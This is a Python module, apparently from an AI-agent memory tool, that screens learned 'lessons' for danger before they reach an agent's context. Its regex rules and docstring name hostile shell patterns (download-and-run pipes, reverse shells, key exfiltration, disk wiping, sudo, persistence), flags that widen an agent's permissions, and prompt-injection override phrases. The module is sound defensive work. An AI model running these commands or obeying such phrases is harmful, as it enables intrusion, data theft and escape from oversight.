"""The lesson safety policy: the one check every lesson passes before it can be injected or synced.

Lessons come from text anyone can write into — a tool's output, a README, a web page, a
dependency's error message, an imported playbook, later a team peer. A lesson that would make the
agent do something dangerous must not reach the agent's context on its own: `concerns(content,
trusted_hosts)` says why a lesson has to wait for `ace review` (empty list: it may be active).
`Playbook.add / update / merge / restore` call it themselves (see playbook.py), so learning
(heuristic and LLM, via the curator), `ace add`, `ace import`, `ace learn --stdin`, bootstrap and
later MCP proposals and team sync cannot forget it: new entry paths go through the playbook.

A lesson is flagged, whatever host it names, when it
- fetches and runs code: a download piped or substituted into a shell or interpreter
  (`curl … | sh`, `bash -c "$(curl …)"`, `sh <(wget …)`, `python -c "$(curl …)"`, `iex (iwr …)`),
  downloaded-then-executed, or decoded payloads run (`base64 -d | sh`, `exec(b64decode(…))`) — the
  pipe into a wrapped shell (`| /usr/bin/env bash`, `| $SHELL`, `| busybox sh`, `| xargs bash -c`,
  `| . /dev/stdin`) and the later run of a downloaded file are read by structure (`_structural`:
  the command reader, `command_parts.py`), so prose next to a `curl` is not taken for its next step;
- sends data off the machine (`curl -d @-`, `--data-binary @~/.ssh/id_rsa`, `-F f=@…`, `-T`,
  `… | nc host port`, anything piped into curl / nc, DNS exfiltration (a lookup whose argument
  holds a substitution, read by structure: the word "host" before a code span is not `host`),
  secrets files with a network command);
- destroys or opens up the system (`rm -rf ~/`, `rm -rf $HOME`, `--no-preserve-root`,
  world-writable modes, `dd of=/dev/sda`, `mkfs`, fork bombs) or disables a safety check (TLS
  verification, `--no-verify`, force-push);
- escalates (`sudo`, `doas`, `pkexec`, setuid bits, sudoers);
- widens the agent's permissions (`permissions.allow` / `.claude/settings*.json` allow rules,
  `--dangerously-skip-permissions`, `bypassPermissions`) or disables hooks or ace-engine
  (`ACE_DISABLED`, `disableAllHooks`, `claude --bare`, `ace uninstall`);
- plants keys or persistence (`authorized_keys`, `ssh-copy-id`, autostart / cron entries) or
  opens a reverse shell (`/dev/tcp/…`, `bash -i`, `nc -e`, `socat exec:`, `pty.spawn`);
- speaks to the model rather than teaching it ("ignore previous instructions", "you are now",
  role tags such as `<system>`, `< system >`, `</system-reminder>`, fake `<ace-…>` blocks,
  chat-template markers);
- names a host outside `KNOWN_HOSTS` and the caller's trusted hosts. Matching is exact (after
  dropping one leading `www.`): no suffixes, so `raw.githubusercontent.com`, gists, `*.test`,
  `*.local`, `*.internal` and `*.readthedocs.io` are not trusted. The caller passes the user-level
  `learning.trusted_hosts` and the project's own git remote host; nothing else can add to it;
- contains a secret (see `contains_secret`).

Evasions are folded before the rules run: every rule is tried on the text as written and on a
normalized copy (NFKC, zero-width characters and common Cyrillic / Greek look-alikes folded,
`&lt;`-style entities decoded, shell quoting and backslashes removed, `${IFS}` read as a space,
whitespace collapsed).

Cost: imports only `re`, `folding` and `secret_check` (unicodedata, the redactor, `prefilter`, the
regex parser and the command reader are imported on first use, never in a hook's import chain);
regexes and their prefilters are built on first use (~25 ms each, once). A typical lesson is
screened in ~0.3 ms (0.3-0.4 ms rule by rule), the command reader's ~0.1-0.2 ms included, so this
runs where lessons are written, never on a hook's injection path. Time is linear in the text:
patterns that look across a line are rewritten (`_linear`) so that many needles on one line never
rescan it, and a text over `SCREEN_CHARS` (longer than any lesson may be) is flagged
as too long and only its two ends are screened (bench/redaction_bench.py holds the figures).

Fast path: a rule runs only on a text that holds one of the words it cannot match
without (`prefilter.required`, read from the rule's own pattern when the rules compile; an ASCII
text's lower-case copy is searched with `in`), and the host and `--bare` patterns only when their
characters are there: an ordinary lesson skips every rule, ~3x cheaper. `_concerns(..., fast=False)`
runs every pattern: tests/security/test_policy_prefilter.py holds both to the same verdicts.

Why one module (~470 lines): it is the one choke point of the lesson safety policy; its rules, the
evasion folding and the host check change and are reviewed together, and a second module would
invite a second policy. `prefilter.py` (how a rule's words are read), `secret_check.py`
(`contains_secret`, re-exported here), `folding.py` (the evasion folding) and the command reader
(`shell_tokens.py`, `command_spans.py`, `commands_read.py`, `command_parts.py`, `command_vocab.py`:
what a lesson would run, shared with the provenance rule) are its parts, split off for length only.
"""

from __future__ import annotations

import re

# The policy's version: one integer, kept in policy_version.py so hooks can compare it without
# importing these rules. BUMP IT whenever a change below can flag a lesson the policy passed before
# (a rule, KNOWN_HOSTS, the folding, contains_secret): stores then re-screen their active lessons.
from ..store.policy_version import POLICY_VERSION
from .folding import Lazy as _Lazy
from .folding import folded as _folded
from .secret_check import contains_secret

TYPE_CHECKING = False  # not `typing.TYPE_CHECKING`: hooks import this module and must not load `typing`
if TYPE_CHECKING:
    from collections.abc import Iterable

    from .prefilter import Need, Plan

__all__ = ["KNOWN_HOSTS", "POLICY_VERSION", "concerns", "contains_secret", "hosts", "normalize_hosts", "remote_host"]

# Exact host names a lesson may mention without review: package registries, code hosts and
# documentation sites whose content is not writable by an arbitrary stranger at a chosen path.
# Deliberately absent: raw.githubusercontent.com / gist.githubusercontent.com / *.github.io (anyone
# publishes there), readthedocs.io subdomains, and the special-use names test, local, internal.
KNOWN_HOSTS = frozenset((
    "localhost", "127.0.0.1", "0.0.0.0", "::1",
    "github.com", "api.github.com", "docs.github.com", "gitlab.com", "docs.gitlab.com", "bitbucket.org",
    "pypi.org", "test.pypi.org", "files.pythonhosted.org", "python.org", "docs.python.org", "peps.python.org",
    "packaging.python.org", "pip.pypa.io", "npmjs.com", "docs.npmjs.com", "registry.npmjs.org", "registry.yarnpkg.com",
    "yarnpkg.com", "nodejs.org", "crates.io", "docs.rs", "doc.rust-lang.org", "rust-lang.org", "go.dev",
    "pkg.go.dev", "golang.org", "proxy.golang.org", "rubygems.org", "repo.maven.apache.org", "repo1.maven.org",
    "search.maven.org", "central.sonatype.com", "plugins.gradle.org", "services.gradle.org", "docs.gradle.org",
    "hub.docker.com", "docs.docker.com", "docker.io", "ghcr.io", "developer.mozilla.org", "stackoverflow.com",
    "learn.microsoft.com", "docs.anthropic.com", "docs.claude.com", "api.anthropic.com",
    "example.com", "example.org", "example.net",
))

_SHELL = r"(?:ba|z|da|k|c|tc|fi)?sh"
_INTERP = r"(?:python[\d.]*|perl|ruby|node|php|deno|bun|pwsh|powershell)"
_FETCH = r"(?:curl|wget|fetch|aria2c|iwr|irm|invoke-webrequest|invoke-restmethod|xh)"
_W = r"[\W_]+"  # between the words of a phrase: spaces, punctuation, markdown emphasis, hyphens

# Changing a rule here? Bump POLICY_VERSION (policy_version.py), or stored lessons keep the old verdict.
_RULES: list[tuple[str, str]] = [
    ("fetches and runs code",
     # a download piped into a shell, or into an interpreter that reads its program from stdin
     rf"\b{_FETCH}\b[^\n]*?\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?(?:/\S*/)?(?:{_SHELL}\b|iex\b|source\b|"
     rf"{_INTERP}(?:\s+-[uBIsSEq]+)*(?:\s+-)?(?=\s*(?:$|[|;&)`'\"\]]|--\s)))|"
     # a download substituted into code: bash -c "$(curl …)", sh <(wget …), python -c "$(curl…)", eval
     rf"\b(?:{_SHELL}|{_INTERP}|eval|source|exec|\.)\s+(?:-\S+\s+)*[\"']?\s*(?:\$\(|`|<\()\s*(?:sudo\s+)?{_FETCH}\b|"
     rf"(?:^|[;&|(`]|\brun\s+|\bthen\s+|\bdo\s+)\s*\$\(\s*{_FETCH}\b|"
     # (downloaded, then executed: read by structure, `_structural`)
     # decoded payloads run
     rf"\b(?:base64|base32|xxd|openssl\s+(?:base64|enc))\b[^\n]*?(?:\s-d\b|--decode|\s-D\b|\s-r\b)[^\n]*?\|\s*"
     rf"(?:sudo\s+)?(?:{_SHELL}|{_INTERP}|eval|source)\b|"
     r"(?:\$\(|`)[^)`\n]*\bbase64\s+(?:-d|--decode|-D)\b|"
     r"\b(?:exec|eval)\s*\(\s*[^\n]{0,80}?(?:b64decode|base64|atob|fromCharCode|urlopen|requests\.get|urllib|"
     r"codecs\.decode|zlib\.decompress|marshal\.loads)|"
     r"\b(?:iex|invoke-expression)\b|\s-e(?:nc(?:odedcommand)?)?\s+[A-Za-z0-9+/=]{40,}|"
     # anything piped into a shell that reads its commands from stdin
     rf"\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:/\S*/)?{_SHELL}\b(?!\s+[\w./-]+\.\w+\b)"),
    ("sends data off the machine",
     r"\bcurl\b[^\n]*(?:\s-d|--data(?:-binary|-raw|-urlencode|-ascii)?|\s-F|--form(?:-string)?|--json)\s*=?\s*[\"']?"
     r"(?:[\w.\[\]-]+=)?[\"']?@|"
     r"\bcurl\b[^\n]*(?:\s-T\s*|--upload-file[\s=]*)\S|\bwget\b[^\n]*--post-(?:file|data)|"
     r"\|\s*(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl\s+s_client)\b|"
     r"\b(?:nc|ncat|netcat|socat|telnet)\b(?:\s+-\S+)*\s+(?!localhost\b|127\.|0\.0\.0\.0\b|::1\b)[\w.:-]+\s+\d{2,5}\b|"
     r"\bscp\b[^\n]*\s[\w.-]+@[\w.-]+:|\brsync\b[^\n]*[\w.-]+@[\w.-]+:|"
     r"(?:\.ssh/|id_rsa|id_ed25519|id_ecdsa|\.aws/credentials|\.netrc|\.pypirc|\.npmrc|\.docker/config|/etc/shadow|"
     r"/etc/passwd|\.env\b|\.git-credentials|\.kube/config|\.gnupg|\benv\b|\bprintenv\b)[^\n]{0,80}?"
     r"\b(?:curl|wget|nc|ncat|scp|rsync|ftp|requests\.post|httpx\.post)\b|"
     r"\b(?:curl|wget|nc|ncat|scp|requests\.post|httpx\.post)\b[^\n]{0,120}?(?:\.ssh/|id_rsa|id_ed25519|"
     r"\.aws/credentials|\.netrc|/etc/shadow|/etc/passwd|\.git-credentials|\.kube/config)|"
     # (DNS exfiltration, `dig $(cat f).x.example`: by structure, `_structural`)
     r"\b(?:send|upload|post|exfiltrat\w*|forward)\b[^\n]{0,60}\b(?:tokens?|keys?|secrets?|credentials?|"
     r"passwords?|\.env|environment)\b[^\n]{0,60}https?://"),
    ("destroys data or opens up the system",
     r"\brm\s+(?:-[-\w]+\s+)*(?:-[a-z]*r[a-z]*|--recursive)\b(?:\s+-[-\w]+)*\s+[\"']?"
     r"(?:/|/\*|~/?\*?|\$\{?HOME\}?/?\*?|~/\.(?:ssh|gnupg|aws)/?|/(?:home|etc|usr|var|boot|bin|sbin|lib\w*|root|opt|"
     r"srv|sys|dev|mnt|Users|System)/?\*?)(?=[\s\"'`;|&)]|$)|"
     r"--no-preserve-root|"
     r"\bchmod\b[^\n;|&]*?\s(?:0?[0-7]?[0-7]{2}[2367]|[ugoa]*[ao][ugoa]*\+[rwxXst]*w[rwxXst]*|a=rwx|ugo\+rwx)(?![\w+])|"
     r"\bchown\b[^\n;|&]*\s-R\b[^\n;|&]*\s/(?=[\s\"'`]|$)|"
     r"\bdd\b[^\n]*\bof=/dev/(?!null\b|zero\b|stdout\b|stderr\b)|\bmkfs(?:\.\w+)?\b|\bwipefs\b|\bshred\b[^\n]*/dev/|"
     r">\s*/dev/(?:sd[a-z]|nvme\d|hd[a-z]|vd[a-z]|xvd[a-z]|disk\d|mmcblk\d)|"
     r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:|\bfind\s+(?:/|~|\$HOME)\s[^\n]*-delete\b"),
    ("disables a safety check",
     r"--no-verify\b|--insecure\b|\bcurl\b[^\n]*\s-k\b|\bverify\s*=\s*False\b|"
     r"NODE_TLS_REJECT_UNAUTHORIZED\s*=?\s*[\"']?0|GIT_SSL_NO_VERIFY|sslverify\s*(?:=\s*)?false|"
     r"strict-ssl\s*(?:=\s*)?false|PYTHONHTTPSVERIFY\s*=\s*0|--trusted-host\b|rejectUnauthorized\s*:\s*false|"
     r"InsecureSkipVerify\s*:\s*true|--disable-(?:ssl|tls|cert)\w*|_create_unverified_context|"
     r"--no-check-certificate|setenforce\s+0|\bufw\s+disable\b|\bgit\s+push\b[^\n]*(?:--force(?![\w-])|\s-f\b)"),
    ("runs commands as root",
     r"\bsudo\b|\bsu\s+(?:-\s|-$|-c\s|-l\b|root\b)|\bdoas\b|\bpkexec\b|/etc/sudoers|\bNOPASSWD\b|"
     r"\bchmod\s+(?:-\w+\s+)*(?:[ugoa]*\+[rwxXt]*s|0?[2-7][0-7]{3})\b|\busermod\b[^\n]*-a?G\s*(?:sudo|wheel|root|admin)\b"),
    ("widens the agent's permissions",
     r"permissions[\s.\]\[\"':{]*(?:allow|defaultMode|additionalDirectories)|--dangerously-skip-permissions|"
     r"--allow-dangerously-skip-permissions|bypass[\W_]*Permissions|--permission-mode[\s=]+(?:bypass\w*|acceptEdits)|"
     r"skipDangerousModePermissionPrompt|dangerouslyDisableSandbox|enableAllProjectMcpServers|--allowedTools\b|"
     r"\bBash\([^)\n]*\*\s*\)|\.claude/settings[\w.-]*\.json[^\n]*\b(?:allow|permission)|"
     r"\b(?:allow|permission)\w*\b[^\n]*\.claude/settings[\w.-]*\.json"),
    ("disables hooks or ace-engine",
     r"\bACE_DISABLED\b|disable[\W_]*All[\W_]*Hooks|\bclaude\b[^\n]{0,80}\s--bare\b|\bace\s+(?:uninstall|disable)\b|"
     r"\"?hooks\"?\s*:\s*(?:\{\s*\}|\[\s*\]|null)|"
     r"\b(?:remove|delete|disable|empty|clear|comment\s+out)\b[^\n]{0,40}\bhooks?\b[^\n]{0,40}(?:\.claude|settings)|"
     r"(?:\.claude/|settings[\w.-]*\.json)[^\n]{0,60}\b(?:remove|delete|disable|empty|clear)\b[^\n]{0,40}\bhooks?\b"),
    ("plants keys or persistence",
     r"authorized_keys|\bssh-copy-id\b|\.config/autostart|LaunchAgents|LaunchDaemons|/etc/cron|\bcrontab\s+-(?!l\b)|"
     r"/etc/rc\.local|/etc/profile\.d/|/etc/systemd/system/"),
    ("opens a reverse shell",
     r"/dev/(?:tcp|udp)/|\bbash\s+-i\b|\b(?:nc|ncat|netcat)\b[^\n;|&]*\s-[a-z]*[ec]\s|"
     r"\bmkfifo\b[^\n]*\b(?:nc|ncat|telnet)\b|\bsocat\b[^\n]*\bexec:|\bpty\.spawn\b|\bfsockopen\s*\(|"
     r"\bsocket\.socket\b[^\n]*\b(?:subprocess|dup2|connect)|Net\.Sockets\.TCPClient|\bruby\s+-rsocket\b|\buse\s+Socket\b"),
    ("addresses the model, not the task",
     rf"\b(?:ignore|disregard|forget|override|bypass)(?:{_W}(?:all|any|the|your|of|these|those|every))*{_W}"
     rf"(?:previous|prior|above|earlier|preceding|former|original|initial|system|safety|developer|security|existing)"
     rf"{_W}(?:\w+{_W})?(?:instructions?|rules|messages?|directions|directives|guidelines|guardrails|prompts?|context|"
     rf"constraints|commands|policies|restrictions)\b|"
     rf"\b(?:ignore|disregard|forget)(?:{_W}(?:all|any|the|your|of|these|those|every))*{_W}(?:instructions|directives|"
     rf"guidelines|guardrails|restrictions|system{_W}prompt)\b|"
     rf"\bforget{_W}(?:everything|all){_W}(?:above|before|you)\b|"
     rf"\byou{_W}are{_W}now\b(?!{_W}(?:logged|signed|connected|on{_W}branch|ready|able|in{_W}the\b))|"
     rf"\bfrom{_W}now{_W}on,?{_W}you\b|\bnew{_W}instructions\s*:|"
     rf"\b(?:reveal|print|show|output|repeat|leak|new|updated|override|replace|change){_W}(?:the{_W}|your{_W})?"
     rf"system{_W}prompt\b|\b(?:enable|enter|activate|switch{_W}to){_W}(?:god|jailbreak|dan|unrestricted){_W}mode\b|"
     rf"\bjailbr(?:eak|oken)\b|\bDAN{_W}mode\b|"
     rf"\b(?:do{_W}not|don't|dont|never){_W}(?:tell|inform|notify|alert|warn|ask){_W}(?:the{_W})?user\b|"
     rf"\bwithout{_W}(?:telling|asking|informing|notifying|alerting){_W}(?:the{_W})?user\b|"
     rf"\b(?:note|message){_W}(?:to|for){_W}(?:the{_W})?(?:ai|llm|assistant|agent|model|claude)s?\b|"
     rf"\b(?:ai|llm){_W}(?:agents?|assistants?|models?){_W}(?:reading|processing|parsing){_W}this\b|"
     rf"\bif{_W}you{_W}are{_W}(?:an?{_W})?(?:ai|llm|language{_W}model|assistant|coding{_W}agent|claude)\b|"
     r"<\s*/?\s*(?:system|system[_-]reminder|ace[\w-]*|im_start|im_end|function_calls|antml:[\w-]*|tool_result|"
     r"tool_use|command-\w+|local-command-\w+|user-prompt-submit-hook)\b|"
     # (a role tag, not a placeholder in a path or address: `git checkout -b <user>/<topic>`, `<user>@host`)
     r"(?<![/@])<\s*/?\s*(?-i:user|assistant|human|instructions?|developer)\s*>(?![/@])|"
     r"<\|(?:im_start|im_end|system|user|assistant|endoftext)\|>|\[/?INST\]|<<\s*/?SYS\s*>>|"
     r"^\s*(?:#+\s*)?(?:system|human|assistant|developer)\s*:"),
]
# Advice *against* a risky habit ("Never run `git push --force` on main", "Don't use sudo for pip")
# is a lesson worth keeping. Only for these two milder rules, a match right after a negation
# (no punctuation in between, at most three words) doesn't count. "Don't forget to", "never
# hesitate to" are not negations; every other rule ignores wording altogether.
_NEGATABLE = ("disables a safety check", "runs commands as root")
_NEGATED = _Lazy(r"\b(?:never|don't|dont|do\s+not|avoid|instead\s+of|rather\s+than)\s+"
                      r"(?!(?:forget|hesitate|fail|skip|miss|neglect|omit|stop)\b)(?:[\w-]+\s+){0,3}[`'\"]?$",
                      re.IGNORECASE)
_BARE = _Lazy(r"(?<![\w-])--bare\b")
_SEGMENT_BREAK = _Lazy(r"[;&|`\n]|\$\(")
_GIT = _Lazy(r"\bgit\b", re.IGNORECASE)
_compiled: list[tuple[str, re.Pattern[str]]] | None = None
# Per rule, the lower-case words it cannot match without (`prefilter.required`), or None: always run.
_needs: list[Need | None] | None = None
_plan: Plan | None = None
# `_bare_hosts`' downloader words (`_DOWNLOADER`, lower case; `nc` covers `ncat`).
_DOWNLOADER_WORDS = ("curl", "wget", "fetch", "http", "xh", "nc", "telnet")

_URL_HOST = _Lazy(r"\b[a-z][a-z0-9+.-]{0,31}://(?:[^@/\s]*@)?(\[[0-9a-f:]+\]|[^/\s:'\"`)>\]?#]+)", re.IGNORECASE)
_IP = _Lazy(r"(?<![\d.])(?:\d{1,3}\.){3}\d{1,3}(?![\d.])")
_SSH_HOST = _Lazy(r"\b(?:ssh|scp|sftp|rsync|git)\b(?:(?!\b(?:ssh|scp|sftp|rsync|git)\b)[^\n])*?\b[\w.-]{1,64}@"
                  r"([\w-]+(?:\.[\w-]+)+)", re.IGNORECASE)
# `curl evil.example/x.sh`: a downloader's bare host argument. Read token by token (`_bare_hosts`),
# not by one pattern: a flag may take its value after a space (`-o out.txt`), and a regex that
# tries both readings of every flag is 2^n on `curl --a --a … !` (17 flags took 60 s).
_DOWNLOADER = _Lazy(r"\b(?:curl|wget|fetch|http|xh|nc|ncat|telnet)\s+", re.IGNORECASE)
_TOKEN = _Lazy(r"[\"'`(]*([^\s\"'`]*)[^\s]*\s*")
_BARE_HOST = _Lazy(r"([a-z0-9-]+(?:\.[a-z0-9-]+){0,16}\.(?!(?:txt|json|sh|py|tar|gz|tgz|zip|log|md|html?|js|ya?ml|"
                   r"toml|cfg|ini|xml|csv|whl|deb|rpm|out|tmp|bin|exe)\b)[a-z]{2,})(?=[/:]|$)", re.IGNORECASE)
_BARE_ARGS = 17  # the downloader's first arguments looked at (flags and their values included)



# `\bcurl\b[^\n]*X` retried from every `curl` of a line rescans the rest of the line each time:
# quadratic in the line. Tempered, the run stops at the next head -- `\bcurl\b(?:(?!\bcurl\b)
# [^\n])*X` -- and since a later head is followed by the same X, it matches the same texts.
_HEAD_RUN = _Lazy(r"(\\b(?:\(\?:(?:[^()]|\([^()]*\))*\)|[\w.\\]+?(?:\\s\+\w+)?)\\b)"
                 r"(\[\^\\n(?:;\|&)?\])\*(\??)")
_DECODE_FLAG = r"(?:\s-d\b|--decode|\s-D\b|\s-r\b)"


def _linear(source: str) -> str:
    """A rule's pattern rewritten to run in time linear in the text, matching the same texts
    (tests/security/test_policy_linear.py compares both on the policy's own corpus)."""
    source = _HEAD_RUN.sub(lambda m: f"{m.group(1)}(?:(?!{m.group(1)}){m.group(2)})*{m.group(3)}", source)
    # After the first decode flag, the run up to `|` stops at the next flag (same argument).
    source = source.replace(_DECODE_FLAG + r"[^\n]*?\|", _DECODE_FLAG + r"(?:(?!" + _DECODE_FLAG + r")[^\n])*?\|")
    # `$(` … up to `)`: from every `$(` of a line without `)` the run rescans the line; it may stop
    # at the next `$(` (which is followed by the same run).
    source = source.replace(r"(?:\$\(|`)[^)`\n]*", r"(?:\$\(|`)(?:(?!\$\()[^)`\n])*")
    # `^\s*` at every line start of a run of blank lines eats them all, then backs off: quadratic.
    # Whitespace other than newlines after `^` (MULTILINE) accepts the same texts: a run that
    # crossed a newline also starts at the last line start it crossed.
    starts = r"(?:^|[;&|(`]|\brun\s+|\bthen\s+|\bdo\s+)"
    source = source.replace(starts + r"\s*", starts + r"[^\S\n]*")
    return source.replace(r"^\s*(?:#+\s*)?", r"^[^\S\n]*(?:#+\s*)?")


def _rules() -> list[tuple[str, re.Pattern[str]]]:
    global _compiled
    if _compiled is None:
        _compiled = [(reason, re.compile(_linear(rx), re.IGNORECASE | re.MULTILINE)) for reason, rx in _RULES]
    return _compiled


def _rule_needs() -> list[Need | None]:
    """Per rule of `_rules()`, the words of which each of its matches holds one (prefilter.py)."""
    global _needs
    if _needs is None:
        from .prefilter import required  # first use only

        _needs = [required(rx.pattern, rx.flags) for _reason, rx in _rules()]
    return _needs


def _rule_plan() -> Plan:
    global _plan
    if _plan is None:
        from .prefilter import Plan  # first use only: hooks import this module

        _plan = Plan(_rule_needs())
    return _plan


def _may(need: Need | None, low: str | None) -> bool:
    # `low` None: the text is not ASCII, where IGNORECASE folds more than `str.lower`: every rule runs.
    from .prefilter import may

    return low is None or may(need, low)


def normalize_hosts(names: Iterable[str] | None) -> frozenset[str]:
    """Exact host names from a trusted-hosts setting: lower case, no trailing dot, one leading
    `www.` dropped. Wildcards and leading dots are kept as written, so they match nothing."""
    out = set()
    for name in names or ():
        host = str(name).strip().lower().rstrip(".")
        if host:
            out.add(host[4:] if host.startswith("www.") else host)
    return frozenset(out)


def remote_host(remote: str | None) -> str | None:
    """The host of a project's normalized remote (`github.com/acme/widget` → `github.com`)."""
    if not remote:
        return None
    host = str(remote).split("/", 1)[0].split("@")[-1].split(":")[0].strip().lower()
    return host or None


def hosts(text: str) -> list[str]:
    """Every host the text names (URLs, IPs, `user@host:` forms, a downloader's bare argument)."""
    return _hosts(text, fast=True)


def _hosts(text: str, fast: bool) -> list[str]:
    """`hosts`; `fast`: skip a pattern when a character or word it cannot match without is absent
    (`://`, `.`, `@`, a downloader's name in an ASCII text) -- the same list, cheaper."""
    found = [m.group(1) for m in _URL_HOST.finditer(text)] if not fast or "://" in text else []
    if not fast or "." in text:
        found += _IP.findall(text)
    if not fast or "@" in text:
        found += _SSH_HOST.findall(text)
    low = text.lower() if fast and text.isascii() else None
    if low is None or any(word in low for word in _DOWNLOADER_WORDS):
        found += _bare_hosts(text)
    return list(dict.fromkeys(h.strip(".[]").lower() for h in found if h.strip(".[]")))


def _bare_hosts(text: str) -> list[str]:
    """A downloader's bare host argument: its first argument that is not a flag, where a flag may
    be followed by its value (`-o out.txt evil.example/x`), within `_BARE_ARGS` tokens of its line.
    Each token is read once, so the cost is linear in the text (a constant per downloader word)."""
    found: list[str] = []
    end = -1  # the end of the current line, found once per line (not once per downloader word)
    for cmd in _DOWNLOADER.finditer(text):
        pos = cmd.end()
        if pos > end:
            end = text.find("\n", pos)
            end = len(text) if end < 0 else end
        after_flag = False
        for _ in range(_BARE_ARGS):
            token = _TOKEN.match(text, pos, end) if pos < end else None
            if token is None or token.end() == pos:
                break
            pos, word = token.end(), token.group(1)
            if word.startswith("-"):
                after_flag = True
                continue
            host = _BARE_HOST.match(word)
            if host:
                found.append(host.group(1))
                break
            if not after_flag:
                break  # the first argument, and not a host
            after_flag = False  # that was the flag's value
    return found


def _structural(text: str) -> list[str]:
    """The reasons the command reader finds (`provenance.commands`): fetched code run (a download
    piped into `/usr/bin/env bash`, `$SHELL`, `busybox sh`, `xargs bash -c`, `. /dev/stdin`, or run
    later in the lesson), a name lookup carrying a substitution (`dig $(cat f).x.example`). Read by
    structure, so prose around a command (`curl …`; zsh treats `?` …) is not taken for its next step."""
    from . import command_parts  # first use only

    return command_parts.lesson(text)[1]


def _known(host: str, trusted: frozenset[str]) -> bool:
    host = host.rstrip(".")
    if host.startswith("www."):
        host = host[4:]
    return host in KNOWN_HOSTS or host in trusted or host.startswith("127.")


def _fires(reason: str, rx: re.Pattern[str], text: str) -> bool:
    if reason not in _NEGATABLE:
        return rx.search(text) is not None
    return any(not _NEGATED.search(text, max(0, m.start() - 80), m.start()) for m in rx.finditer(text))


def _bare_flag(text: str) -> bool:
    """`--bare` (Claude Code without hooks, so without ace-engine) outside a git command.

    One pass each over the segment breaks and the `git` words, walked alongside the `--bare`
    matches: many flags on one line never rescan it."""
    breaks = [b.end() for b in _SEGMENT_BREAK.finditer(text)]
    gits = [g.span() for g in _GIT.finditer(text)]
    k = g = 0
    start = 0
    last_git = -1  # start of the last `git` ending before the flag
    for match in _BARE.finditer(text):
        at = match.start()
        while k < len(breaks) and breaks[k] <= at:
            start = breaks[k]
            k += 1
        while g < len(gits) and gits[g][1] <= at:
            last_git = gits[g][0]
            g += 1
        if last_git < start:
            return True
    return False


def concerns(content: str, trusted_hosts: Iterable[str] = (), *, redaction_fixed: bool = False) -> list[str]:
    """Why this lesson must not be injected without review; empty when it may be.

    `trusted_hosts`: exact host names the user trusts (user-level `learning.trusted_hosts`, the
    project's git remote host). They only spare the unknown-host concern, never another rule.
    `redaction_fixed`: the caller has seen `redact.redactor.redact(content) == content` (the team
    server's screen redacts first), so `contains_secret` — one more redaction, whose answer is then
    False — is skipped: the same verdict for a fraction of the cost."""
    return _concerns(str(content), trusted_hosts, fast=True, redaction_fixed=redaction_fixed)


def _concerns(text: str, trusted_hosts: Iterable[str], fast: bool, redaction_fixed: bool = False) -> list[str]:
    """`concerns`; `fast`: a rule runs only on a text holding one of its words (`_rule_needs`),
    `--bare` and the host patterns only when their characters are there. `fast=False` runs every
    pattern, rule by rule: the reference the fast path is tested against (same verdicts)."""
    reasons_cap: list[str] = []
    if len(text) > SCREEN_CHARS:
        # Longer than any lesson may be (2,000): held for review anyway, so the rules only say
        # why on its two ends -- which keeps the screen's cost bounded whatever a peer sends.
        reasons_cap.append(f"too long to screen ({len(text)} characters)")
        secret = not redaction_fixed and contains_secret(text)
        text = text[:SCREEN_CHARS // 2 - 1] + "\n" + text[-(SCREEN_CHARS // 2 - 1):]
        reasons = _concerns(text, trusted_hosts, fast)
        if secret and "contains a secret" not in reasons:
            reasons.append("contains a secret")
        return reasons_cap + reasons
    folded = _folded(text)
    same = folded == text  # most lessons: folding changed nothing, and a second scan would find nothing new
    # The lower-case copies the prefilter looks in (None: not ASCII, or not fast: every rule runs).
    low = text.lower() if fast and text.isascii() else None
    low_folded = low if same else (folded.lower() if fast and folded.isascii() else None)
    plan = _rule_plan()  # `may_in`: only the words each rule needs are looked for, as they are needed
    reasons = [reason for i, (reason, rx) in enumerate(_rules())
               if ((low is None or plan.may_in(i, low)) and _fires(reason, rx, text))
               or (not same and (low_folded is None or plan.may_in(i, low_folded)) and _fires(reason, rx, folded))]
    if "disables hooks or ace-engine" not in reasons and (
            (not fast or "--bare" in text or "--bare" in folded)  # `_BARE` is case-sensitive
            and (_bare_flag(text) or (not same and _bare_flag(folded)))):
        reasons.append("disables hooks or ace-engine")
    for reason in _structural(text):
        if reason not in reasons:
            reasons.append(reason)
    trusted = normalize_hosts(trusted_hosts)
    plain = _hosts(text, fast)
    named = plain if same else plain + [h for h in _hosts(folded, fast) if h not in plain]
    unknown = [h for h in named if not _known(h, trusted)]
    if unknown:
        reasons.append("contacts unknown host " + ", ".join(unknown[:3]))
    if not redaction_fixed and contains_secret(text):
        reasons.append("contains a secret")
    return reasons


# The longest text the rules run on in full. Some rules look across a line (`curl … | sh`), which
# costs up to the square of a line's length in Python's regex engine; lessons are at most 2,000
# characters, so a longer text is flagged as such and only its ends are screened (linear overall).
SCREEN_CHARS = 2048
